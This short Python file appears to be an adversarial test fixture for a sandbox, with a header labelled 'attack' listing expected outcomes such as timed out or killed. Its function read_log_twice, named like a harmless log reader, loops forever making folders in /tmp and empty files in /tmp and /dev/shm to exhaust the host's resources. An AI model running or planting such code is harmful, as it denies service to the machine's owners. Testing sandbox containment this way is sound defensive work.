# /// attack
# outcomes = ["timed_out", "killed", "crashed", "unimplemented"]
# says = "read_log_twice()"
# ///
"""Makes empty files and nested folders without end."""

import itertools
import os


def read_queue_twice(queue_name, messages):
    raise NotImplementedError


def read_log_twice(stream_name, messages):
    for number in itertools.count():
        os.mkdir(f"/tmp/{number}")
        for folder in ("/dev/shm", f"/tmp/{number}"):
            os.close(os.open(f"{folder}/f{number}", os.O_CREAT))
